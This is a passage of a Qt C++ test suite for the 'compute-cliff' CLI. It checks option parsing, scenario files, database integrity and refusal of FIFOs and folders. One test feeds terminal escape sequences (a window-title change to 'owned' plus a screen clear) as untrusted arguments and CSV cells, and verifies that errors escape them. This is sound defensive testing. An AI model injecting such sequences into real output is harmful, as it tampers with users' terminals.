            QCOMPARE(value.toObject().value("swing").toDouble(), 0.0);
    }
}

void TestCli::modelScenarioCarriesDistributions()
{
    // A run's output, used as a scenario file, gives the same run; a distribution edited in it
    // is used as given, and a bad one is refused naming the file and the key.
    const QStringList args{"model", "--view", "fiber", "--set", "demand_elasticity=0.9",
                           "--monte-carlo", "500", "--seed", "4", "--tornado", "--format", "json"};
    const Run first = run(args);
    QCOMPARE(first.exitCode, 0);
    const QString path = m_home.filePath(QStringLiteral("fiber-scenario.json"));
    writeBytes(path, first.out);
    const Run replay = run({"model", "--view", "fiber", "--scenario", path, "--monte-carlo", "500",
                            "--seed", "4", "--tornado", "--format", "json"});
    QCOMPARE(replay.exitCode, 0);
    QCOMPARE(replay.out, first.out);

    QJsonObject edited = QJsonDocument::fromJson(first.out).object();
    QJsonObject distributions = edited.value("distributions").toObject();
    distributions.insert("demand_elasticity", QJsonObject{{"kind", "fixed"}, {"value", 0.5}});
    edited.insert("distributions", distributions);
    writeBytes(path, QJsonDocument(edited).toJson());
    const Run fixed = run({"model", "--view", "fiber", "--scenario", path, "--monte-carlo", "500",
                           "--format", "json"});
    QCOMPARE(fixed.exitCode, 0);
    const QJsonObject mc = QJsonDocument::fromJson(fixed.out).object().value("monte_carlo").toObject();
    QVERIFY(!mc.value("sampled").toArray().contains(QStringLiteral("demand_elasticity")));
    QCOMPARE(mc.value("distribution_basis").toObject().value("demand_elasticity").toObject()
                 .value("basis").toString(),
             QStringLiteral("given in the scenario file"));

    distributions.insert("demand_elasticity",
                         QJsonObject{{"kind", "triangular"}, {"low", 1.0}, {"mode", 0.5}, {"high", 2.0}});
    edited.insert("distributions", distributions);
    writeBytes(path, QJsonDocument(edited).toJson());
    const Run bad = run({"model", "--view", "fiber", "--scenario", path, "--tornado", "--format", "json"});
    QCOMPARE(bad.exitCode, 1);
    QVERIFY(bad.out.isEmpty());
    QCOMPARE(bad.err.count('\n'), 1);
    QVERIFY2(bad.err.contains(path.toUtf8()) && bad.err.contains("demand_elasticity"), bad.err.constData());
}

void TestCli::repeatedOptionsAreRefused_data()
{
    QTest::addColumn<QStringList>("args");
    QTest::addColumn<QByteArray>("mentions");
    QTest::newRow("bench history format") << QStringList{"bench", "--history", "--format", "md", "--format", "nonsense"} << QByteArray("'--format'");
    QTest::newRow("same value twice") << QStringList{"figures", "--format", "csv", "--format", "csv"} << QByteArray("'--format'");
    QTest::newRow("inline form") << QStringList{"figures", "--format=csv", "--format=json"} << QByteArray("'--format'");
    QTest::newRow("mixed forms") << QStringList{"figures", "--category", "credit", "--category=capex"} << QByteArray("'--category'");
    QTest::newRow("figures user db") << QStringList{"figures", "--user-db", "a.sqlite", "--user-db", "b.sqlite"} << QByteArray("'--user-db'");
    QTest::newRow("figures delete") << QStringList{"figures", "--delete", "a", "--delete", "b"} << QByteArray("'--delete'");
    QTest::newRow("import user db") << QStringList{"import", "/nonexistent/f.csv", "--user-db", "a", "--user-db", "b"} << QByteArray("'--user-db'");
    QTest::newRow("model view") << QStringList{"model", "--view", "fiber", "--view", "moat", "--format", "json"} << QByteArray("'--view'");
    QTest::newRow("model seed") << QStringList{"model", "--view", "fiber", "--monte-carlo", "10", "--seed", "1", "--seed", "2"} << QByteArray("'--seed'");
    QTest::newRow("export out") << QStringList{"export", "--view", "moat", "--out", "/nonexistent/a.png", "--out", "/nonexistent/b.png"} << QByteArray("'--out'");
    QTest::newRow("export title") << QStringList{"export", "--view", "moat", "--title", "A", "--title", "B", "--out", "/nonexistent/a.png"} << QByteArray("'--title'");
    QTest::newRow("bench threads") << QStringList{"bench", "--history", "--threads", "1", "--threads", "2"} << QByteArray("'--threads'");
}

void TestCli::repeatedOptionsAreRefused()
{
    QFETCH(QStringList, args);
    QFETCH(QByteArray, mentions);
    const Run result = run(args);
    QCOMPARE(result.exitCode, 2);
    QVERIFY(result.out.isEmpty());
    // One line of ours (an export's platform may add its own warnings about the session).
    QCOMPARE(result.err.count("compute-cliff:"), 1);
    QVERIFY2(result.err.contains(mentions), result.err.constData());

    // A list-valued option stays repeatable: the later --set wins.
    if (QTest::currentDataTag() == QByteArrayLiteral("model view")) {
        const Run twice = run({"model", "--view", "fiber", "--set", "wacc=0.1", "--set", "wacc=0.12"});
        QCOMPARE(twice.exitCode, 0);
        QCOMPARE(QJsonDocument::fromJson(twice.out).object().value("assumptions").toObject()
                     .value("wacc").toDouble(), 0.12);
    }
}

void TestCli::untrustedTextIsQuotedShortAndEscaped_data()
{
    QTest::addColumn<QStringList>("args");   // "CSV" stands for a file holding `csv`
    QTest::addColumn<QByteArray>("csv");
    QTest::addColumn<int>("exitCode");
    QTest::addColumn<QByteArray>("mentions");
    const QString escapes = QStringLiteral("\x1b]0;owned\x07\x1b[2J");
    const QByteArray escaped = R"("\x1b]0;owned\x07\x1b[2J")";
    QTest::newRow("link view") << QStringList{"--open", "compute-cliff:view=" + escapes} << QByteArray() << 2
                               << "unknown view " + escaped;
    QTest::newRow("link key") << QStringList{"--open", "compute-cliff:view=moat&" + escapes + "=1"} << QByteArray() << 2
                              << escaped;
    QTest::newRow("link pair") << QStringList{"--open", "compute-cliff:view=moat&" + escapes} << QByteArray() << 2
                               << escaped + " is not of the form";
    QTest::newRow("command") << QStringList{escapes} << QByteArray() << 2 << escaped;
    QTest::newRow("option name") << QStringList{"figures", "--" + escapes} << QByteArray() << 2 << QByteArray(R"("--\x1b]0;owned)");
    QTest::newRow("option value") << QStringList{"figures", "--category", escapes} << QByteArray() << 2 << escaped;
    QTest::newRow("set value") << QStringList{"model", "--view", "fiber", "--set", "wacc=" + escapes} << QByteArray() << 2
                               << escaped;
    QTest::newRow("set key") << QStringList{"model", "--view", "fiber", "--set", escapes + "=1"} << QByteArray() << 2
                             << escaped;
    QTest::newRow("bench preset") << QStringList{"bench", "--preset", escapes, "--no-save"} << QByteArray() << 2
                                  << escaped;
    QTest::newRow("long view") << QStringList{"model", "--view", QString(100000, u'v')} << QByteArray() << 2
                               << QByteArray("…\" (100,000 bytes)");
    QTest::newRow("long figure id") << QStringList{"figures", "--delete", QString(70000, u'x')} << QByteArray() << 2
                                    << QByteArray("…\" (70,000 bytes)");
    QTest::newRow("long header field") << QStringList{"import", "CSV"}
                                       << "id," + QByteArray(10 * 1024 * 1024, 'h') + "\nx,1\n" << 1
                                       << QByteArray("…\" (10,485,760 bytes): unknown column");
    QTest::newRow("escapes in a header") << QStringList{"import", "CSV"} << escapes.toUtf8() + ",id\nx,1\n" << 1
                                         << escaped + ": unknown column";
    QTest::newRow("escapes in a cell") << QStringList{"import", "CSV"}
                                       << kListingHeader + QByteArray(userRow("u1", "1")).replace("USD", escapes.toUtf8())
                                       << 1 << escaped;
}

void TestCli::untrustedTextIsQuotedShortAndEscaped()
{
    QFETCH(QStringList, args);
    QFETCH(QByteArray, csv);
    QFETCH(int, exitCode);
    QFETCH(QByteArray, mentions);
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    for (QString &arg : args) {
        if (arg == u"CSV") {
            arg = dir.filePath(QStringLiteral("untrusted.csv"));
            writeBytes(arg, csv);
        }
    }
    QProcessEnvironment env = testEnvironment();
    env.remove(QStringLiteral("DISPLAY")); // a link that were accepted would stop at the display
    env.remove(QStringLiteral("WAYLAND_DISPLAY"));
    env.remove(QStringLiteral("QT_QPA_PLATFORM"));
    const Run result = runWith(args, env);
    QCOMPARE(result.exitCode, exitCode);
    QVERIFY(result.out.isEmpty());
    QCOMPARE(result.err.count('\n'), 1);
    QVERIFY2(result.err.size() < 1000, result.err.left(200).constData());
    for (char c : result.err)
        QVERIFY2(uchar(c) >= 0x20 || c == '\n', result.err.toHex().constData());
    QVERIFY2(result.err.contains(mentions), result.err.constData());
}

void TestCli::stdoutWriteErrorsFail_data()
{
    QTest::addColumn<QStringList>("args"); // "CSV" stands for a listing with one new figure
    QTest::newRow("figures csv") << QStringList{"figures"};
    QTest::newRow("figures json") << QStringList{"figures", "--format", "json"};
    QTest::newRow("model") << QStringList{"model", "--view", "fiber"};
    QTest::newRow("bench history") << QStringList{"bench", "--history"};
    QTest::newRow("bench history json") << QStringList{"bench", "--history", "--format", "json"};
    QTest::newRow("help") << QStringList{"--help"};
    QTest::newRow("version") << QStringList{"--version"};
    QTest::newRow("check-db") << QStringList{"check-db"};
    QTest::newRow("import") << QStringList{"import", "CSV"};
}

void TestCli::stdoutWriteErrorsFail()
{
    QFETCH(QStringList, args);
    if (!QFileInfo(QStringLiteral("/dev/full")).exists())
        QSKIP("no /dev/full here");
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    for (QString &arg : args) {
        if (arg == u"CSV") {
            arg = dir.filePath(QStringLiteral("one.csv"));
            writeBytes(arg, kListingHeader + userRow("full-disk", "3"));
        }
    }
    QProcessEnvironment env = testEnvironment();
    env.insert(QStringLiteral("XDG_DATA_HOME"), dir.path());
    const Run result = runWith(args, env, QStringLiteral("/dev/full"));
    QCOMPARE(result.exitCode, 1);
    QCOMPARE(result.err.count('\n'), 1);
    QVERIFY2(result.err.contains("standard output") && result.err.contains("No space left on device"),
             result.err.constData());
}

void TestCli::exportRefusesNonRegularTargets_data()
{
    // What sits at FILE or FILE.alt.txt before the export: a FIFO, a symlink to one, a folder.
    QTest::addColumn<QString>("target");
    QTest::addColumn<QString>("kind");
    QTest::newRow("fifo") << "chart.png" << "fifo";
    QTest::newRow("symlink to a fifo") << "chart.png" << "link";
    QTest::newRow("alt text fifo") << "chart.png.alt.txt" << "fifo";
    QTest::newRow("folder") << "chart.png" << "folder";
    QTest::newRow("alt text folder") << "chart.png.alt.txt" << "folder";
}

void TestCli::exportRefusesNonRegularTargets()
{
    QFETCH(QString, target);
    QFETCH(QString, kind);
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    const QString blocked = dir.filePath(target);
    const QString fifo = dir.filePath(QStringLiteral("pipe"));
    QStringList expected{target};
    if (kind == u"folder") {
        QVERIFY(QDir(dir.path()).mkdir(target));
        writeBytes(blocked + QStringLiteral("/inside"), "x");
    } else {
        QCOMPARE(::mkfifo(QFile::encodeName(kind == u"link" ? fifo : blocked).constData(), 0600), 0);
        if (kind == u"link") {
            QVERIFY(QFile::link(fifo, blocked));
            expected << QStringLiteral("pipe");
        }
    }
    const QString out = dir.filePath(QStringLiteral("chart.png"));
    const Run result = run({"export", "--view", "moat", "--out", out, "--alt-text"});
    QCOMPARE(result.exitCode, 1);
    QVERIFY(result.out.isEmpty());
    QCOMPARE(result.err.count("compute-cliff:"), 1);
    QVERIFY2(result.err.contains(blocked.toUtf8() + ": ") && result.err.contains("not a regular file"),
             result.err.constData());
    // Nothing was replaced and nothing was left behind.
    expected.sort();
    QCOMPARE(QDir(dir.path()).entryList(QDir::AllEntries | QDir::System | QDir::Hidden | QDir::NoDotAndDotDot,
                                        QDir::Name),
             expected);
    const QFileInfo after(kind == u"link" ? fifo : blocked);
    QVERIFY(kind == u"folder" ? after.isDir() : after.isFile() == false && after.exists());
    if (kind == u"link")
        QVERIFY(QFileInfo(blocked).isSymLink());

    // A symlink to a regular file is written through, as an editor would.
    if (kind == u"link") {
        const QString real = dir.filePath(QStringLiteral("real.csv"));
        const QString link = dir.filePath(QStringLiteral("link.csv"));
        writeBytes(real, "old");
        QVERIFY(QFile::link(real, link));
        QCOMPARE(run({"export", "--view", "moat", "--out", link}).exitCode, 0);
        QVERIFY(QFileInfo(link).isSymLink());
        QVERIFY(readAll(real).startsWith("\"# "));
    }
}

void TestCli::guiWithoutDisplayFailsInOneLine_data()
{
    QTest::addColumn<QStringList>("args");
    QTest::addColumn<QString>("display");  // DISPLAY, or empty for none
    QTest::addColumn<QString>("platform"); // QT_QPA_PLATFORM, or empty for none
    QTest::newRow("no display") << QStringList{} << QString() << QString();
    QTest::newRow("link, no display") << QStringList{"--open", "compute-cliff:view=moat"} << QString() << QString();
    QTest::newRow("unreachable display") << QStringList{} << ":97" << QString();
    QTest::newRow("unknown platform") << QStringList{} << QString() << "no-such-platform";
}

void TestCli::guiWithoutDisplayFailsInOneLine()
{
    QFETCH(QStringList, args);
    QFETCH(QString, display);
    QFETCH(QString, platform);
    QProcessEnvironment env = testEnvironment();
    for (const char *name : {"DISPLAY", "WAYLAND_DISPLAY", "QT_QPA_PLATFORM"})
        env.remove(QString::fromLatin1(name));
    if (!display.isEmpty())
        env.insert(QStringLiteral("DISPLAY"), display);
    if (!platform.isEmpty())
        env.insert(QStringLiteral("QT_QPA_PLATFORM"), platform);
    const Run result = runWith(args, env);
    QCOMPARE(result.exitCode, 1);
    QVERIFY(result.out.isEmpty());
    QCOMPARE(result.err.count('\n'), 1);
    QVERIFY2(result.err.startsWith("compute-cliff: ") && result.err.contains("QT_QPA_PLATFORM=offscreen"),
             result.err.constData());
}

/// A copy of the user-database fixture `name` alone in the new folder `folder` of `root`.
static QString fixtureCopy(const QString &root, const QString &folder, const QString &name)
{
    const QString dir = root + u'/' + folder;
    QDir(dir).removeRecursively();
    if (!QDir().mkpath(dir))
        return {};
    const QString path = dir + QStringLiteral("/user.sqlite");
    if (!QFile::copy(QStringLiteral(CLIFF_USER_DB_FIXTURES "/") + name, path))
        return {};
    QFile::setPermissions(path, QFileDevice::ReadOwner | QFileDevice::WriteOwner
                                    | QFileDevice::ReadGroup | QFileDevice::ReadOther);
    return path;
}

static QStringList folderListing(const QString &path)
{
    return QFileInfo(path).dir().entryList(QDir::AllEntries | QDir::Hidden | QDir::System
                                           | QDir::NoDotAndDotDot);
}

void TestCli::scenarioFileEscapesAreDecoded()
{
    const QString path = m_home.filePath(QStringLiteral("escaped.json"));
    writeBytes(path, R"({"w\u0061cc": 0.12, "distributions": {"w\u0061cc": {"kind": "uniform", "low": 0.1, "high": 0.14}}})");
    const Run result = run({"model", "--view", "revenue-gap", "--scenario", path, "--tornado", "--format", "json"});
    QCOMPARE(result.exitCode, 0);
    QVERIFY2(result.err.isEmpty(), result.err.constData());
    const QJsonObject document = QJsonDocument::fromJson(result.out).object();
    QCOMPARE(document.value("assumptions").toObject().value("wacc").toDouble(), 0.12);
    QCOMPARE(document.value("distributions").toObject().value("wacc").toObject().value("kind").toString(),
             QStringLiteral("uniform"));

    writeBytes(path, R"({"wacc": 0.1, "w\u0061cc": 0.12})");
    const Run twice = run({"model", "--view", "revenue-gap", "--scenario", path});
    QCOMPARE(twice.exitCode, 1);
    QCOMPARE(twice.err.count('\n'), 1);
    QVERIFY2(twice.err.contains(path.toUtf8() + ": wacc: given twice"), twice.err.constData());
}

void TestCli::badUserDatabaseFailsTheCommand_data()
{
    QTest::addColumn<QStringList>("args"); // %1 stands for the database, %2 for an output file
    QTest::addColumn<QString>("path");
    QTest::addColumn<QString>("reason");

    const QString corrupt = m_home.filePath(QStringLiteral("corrupt-user.sqlite"));
    writeBytes(corrupt, QByteArray("not a database, only text that is long enough to be one").repeated(4));
    // user_version is the big-endian integer at byte 60 of the header.
    const QString newer = fixtureCopy(m_home.path(), QStringLiteral("newer"), QStringLiteral("v3_delete_journal.sqlite"));
    QByteArray bytes = readAll(newer);
    bytes.replace(60, 4, QByteArray("\0\0\0\x63", 4));
    writeBytes(newer, bytes);

    const QList<QPair<const char *, QStringList>> commands = {
        {"figures", {"figures", "--user-db", "%1"}},
        {"figures json", {"figures", "--format", "json", "--user-db", "%1"}},
        {"model", {"model", "--view", "fragility", "--format", "json", "--user-db", "%1"}},
        {"export", {"export", "--view", "fragility", "--format", "csv", "--out", "%2", "--user-db", "%1"}},
        {"bench history", {"bench", "--history", "--user-db", "%1"}},
    };
    for (const auto &[name, args] : commands) {
        QTest::addRow("%s, corrupt", name) << args << corrupt << "not an SQLite database";
        QTest::addRow("%s, newer schema", name) << args << newer << "schema version 99 is newer";
    }
}

void TestCli::badUserDatabaseFailsTheCommand()
{
    QFETCH(QStringList, args);
    QFETCH(QString, path);
    QFETCH(QString, reason);
    const QString out = m_home.filePath(QStringLiteral("bad-user-db.csv"));
    QFile::remove(out);
    const QByteArray before = sha256(path);
    args.replaceInStrings(QStringLiteral("%1"), path).replaceInStrings(QStringLiteral("%2"), out);
    const Run result = run(args);
    QCOMPARE(result.exitCode, 1);
    QVERIFY(result.out.isEmpty());
    // One line of ours (the platform may add its own warnings about the session).
    QCOMPARE(result.err.count("compute-cliff:"), 1);
    QVERIFY2(result.err.contains(path.toUtf8() + ": " + reason.toUtf8()), result.err.constData());
    QVERIFY(!QFile::exists(out));
    QCOMPARE(sha256(path), before);
}

void TestCli::readsAndRefusalsLeaveTheDatabaseUnchanged_data()
{
    QTest::addColumn<QString>("fixture");
    QTest::addColumn<QStringList>("args"); // %1 stands for the database, %2 for a file in m_home
    QTest::addColumn<int>("exitCode");
    const QString badCsv = m_home.filePath(QStringLiteral("refused.csv"));
    writeBytes(badCsv, kListingHeader + QByteArray(userRow("refused", "3")).replace("USD", "EUR"));
    const QList<std::tuple<const char *, QStringList, int>> commands = {
        {"figures", {"figures", "--user-db", "%1"}, 0},
        {"figures json", {"figures", "--format", "json", "--category", "capex", "--user-db", "%1"}, 0},
        {"model", {"model", "--view", "fragility", "--format", "json", "--user-db", "%1"}, 0},
        {"export", {"export", "--view", "fragility", "--format", "csv", "--out", "%2", "--user-db", "%1"}, 0},
        {"bench history", {"bench", "--history", "--user-db", "%1"}, 0},
        {"bench history json", {"bench", "--history", "--format", "json", "--user-db", "%1"}, 0},
        {"check-db", {"check-db", "%1"}, 0},
        {"refused delete", {"figures", "--delete", "credit-oracle-cds-2025-12-12-ice", "--user-db", "%1"}, 2},
        {"refused choice", {"figures", "--use", "nope", "--user-db", "%1"}, 2},
        {"refused import", {"import", badCsv, "--user-db", "%1"}, 1},
    };
    for (const char *fixture : {"v3_delete_journal.sqlite", "v1_one_figure.sqlite"}) {
        for (const auto &[name, args, exitCode] : commands)
            QTest::addRow("%s, %s", name, fixture) << QString::fromLatin1(fixture) << args << exitCode;
    }
}

void TestCli::readsAndRefusalsLeaveTheDatabaseUnchanged()
{
    QFETCH(QString, fixture);
    QFETCH(QStringList, args);
    QFETCH(int, exitCode);
    // Both fixtures use a rollback journal, and one is of an older schema: a read must neither
    // switch it to WAL nor migrate it.
    const QString db = fixtureCopy(m_home.path(), QStringLiteral("reads"), fixture);
    QVERIFY(!db.isEmpty());
    const QByteArray before = sha256(db);
    const QStringList beside = folderListing(db);
    args.replaceInStrings(QStringLiteral("%1"), db)
        .replaceInStrings(QStringLiteral("%2"), m_home.filePath(QStringLiteral("reads.csv")));
    const Run result = run(args);
    QVERIFY2(result.exitCode == exitCode, result.err.constData());
    QCOMPARE(sha256(db), before);
    QCOMPARE(folderListing(db), beside);
}

void TestCli::readOnlyFolderDatabaseIsRead()
{
    // A WAL database (as the app writes them) in a folder this user cannot write to: SQLite can
    // make no -wal or -shm file there, and the figures are still read. Root writes anyway, so as
    // root the command runs as "nobody".
    QStringList prefix;
    if (::geteuid() == 0) {
        const QString setpriv = QStandardPaths::findExecutable(QStringLiteral("setpriv"));
        if (setpriv.isEmpty())
            QSKIP("running as root without setpriv to run as another user");
        prefix << setpriv << QStringLiteral("--reuid=65534") << QStringLiteral("--regid=65534")
               << QStringLiteral("--clear-groups");
    }
    QTemporaryDir shared;
    QVERIFY(shared.isValid());
    const auto everyoneReads = QFileDevice::ReadOwner | QFileDevice::WriteOwner | QFileDevice::ExeOwner
                               | QFileDevice::ReadGroup | QFileDevice::ExeGroup
                               | QFileDevice::ReadOther | QFileDevice::ExeOther;
    QVERIFY(QFile::setPermissions(shared.path(), everyoneReads));
    const QString db = fixtureCopy(shared.path(), QStringLiteral("read-only"), QStringLiteral("v3_wal.sqlite"));
    QVERIFY(!db.isEmpty());
    const QString folder = QFileInfo(db).absolutePath();
    QVERIFY(QFile::setPermissions(folder, everyoneReads & ~QFileDevice::Permissions(QFileDevice::WriteOwner)));
    const QByteArray before = sha256(db);

    const auto runAs = [&](const QStringList &args) {
        QProcess process;
        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
        env.insert(QStringLiteral("XDG_DATA_HOME"), shared.path());
        process.setProcessEnvironment(env);
        const QStringList command = prefix + QStringList{QStringLiteral(CLIFF_EXECUTABLE)} + args;
        process.start(command.front(), command.mid(1));
        process.waitForFinished(300000);
        return Run{process.exitStatus() == QProcess::NormalExit ? process.exitCode() : -1,
                   process.readAllStandardOutput(), process.readAllStandardError()};
    };
    const Run listed = runAs({"figures", "--format", "json", "--user-db", db});
    const Run history = runAs({"bench", "--history", "--user-db", db});
    const Run checked = runAs({"check-db", db});
    QFile::setPermissions(folder, everyoneReads);

    QCOMPARE(listed.exitCode, 0);
    QVERIFY2(listed.err.isEmpty(), listed.err.constData());
    int own = 0;
    for (const QJsonValue &row : QJsonDocument::fromJson(listed.out).array())
        own += row.toObject().value("origin").toString() == u"user";
    QCOMPARE(own, 6);
    QVERIFY2(history.exitCode == 0, history.err.constData());
    QVERIFY2(checked.exitCode == 0, checked.err.constData());
    QCOMPARE(sha256(db), before);
    QCOMPARE(folderListing(db), QStringList{QStringLiteral("user.sqlite")});
}

void TestCli::nonRegularFilesAreRefused_data()
{
    QTest::addColumn<QStringList>("args"); // %1 stands for the path that is not a regular file
    QTest::addColumn<QString>("path");
    QTest::addColumn<QString>("kind");
    const QString fifo = m_home.filePath(QStringLiteral("pipe"));
    QFile::remove(fifo);
    QVERIFY(::mkfifo(QFile::encodeName(fifo).constData(), 0600) == 0);
    const QString folder = m_home.filePath(QStringLiteral("a-folder"));
    QVERIFY(QDir().mkpath(folder));
    const QString csv = m_home.filePath(QStringLiteral("fine.csv"));
    writeBytes(csv, kListingHeader + userRow("fine", "3"));
    const QString out = m_home.filePath(QStringLiteral("fifo-export.csv"));
    const QList<QPair<const char *, QStringList>> commands = {
        {"figures --user-db", {"figures", "--user-db", "%1"}},
        {"model --user-db", {"model", "--view", "fragility", "--user-db", "%1"}},
        {"export --user-db", {"export", "--view", "fragility", "--format", "csv", "--out", out, "--user-db", "%1"}},
        {"bench --history --user-db", {"bench", "--history", "--user-db", "%1"}},
        {"import --user-db", {"import", csv, "--user-db", "%1"}},
        {"import FILE", {"import", "%1", "--user-db", m_home.filePath(QStringLiteral("never.sqlite"))}},
        {"check-db FILE", {"check-db", "%1"}},
        {"model --scenario", {"model", "--view", "fragility", "--scenario", "%1"}},
    };
    for (const auto &[name, args] : commands) {
        QTest::addRow("%s FIFO", name) << args << fifo << "a FIFO";
        QTest::addRow("%s folder", name) << args << folder << "a folder";
    }
}

void TestCli::nonRegularFilesAreRefused()
{
    QFETCH(QStringList, args);
    QFETCH(QString, path);
    QFETCH(QString, kind);
    // Opening a FIFO to read it waits for a writer that never comes: refused before any open.
    const Run result = run(args.replaceInStrings(QStringLiteral("%1"), path));
    QCOMPARE(result.exitCode, 1);
    QVERIFY(result.out.isEmpty());
    QCOMPARE(result.err.count("compute-cliff:"), 1);
    QVERIFY2(result.err.contains(path.toUtf8() + ": not a regular file (" + kind.toUtf8() + ")"),
             result.err.constData());
    QVERIFY(!QFile::exists(m_home.filePath(QStringLiteral("never.sqlite"))));
    QVERIFY(!QFile::exists(m_home.filePath(QStringLiteral("fifo-export.csv"))));
}

void TestCli::killedProcessLeavesNoTemporaryFile()
{
    QTemporaryDir temp;
    QVERIFY(temp.isValid());
    QProcess process;
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.insert(QStringLiteral("XDG_DATA_HOME"), m_home.path());
    env.insert(QStringLiteral("TMPDIR"), temp.path());
    process.setProcessEnvironment(env);
    // The JSON listing is several pipe buffers long: once its first bytes arrive, the process
    // has opened the embedded store and waits for this side to read the rest.
    process.start(QStringLiteral(CLIFF_EXECUTABLE), {"figures", "--format", "json"});
    QVERIFY(process.waitForReadyRead(300000));
    ::kill(pid_t(process.processId()), SIGKILL);
    QVERIFY(process.waitForFinished(300000));
    QCOMPARE(process.exitStatus(), QProcess::CrashExit);
    QCOMPARE(QDir(temp.path()).entryList(QDir::AllEntries | QDir::Hidden | QDir::System
                                         | QDir::NoDotAndDotDot),
             QStringList());
}

QTEST_GUILESS_MAIN(TestCli)
#include "test_cli.moc"
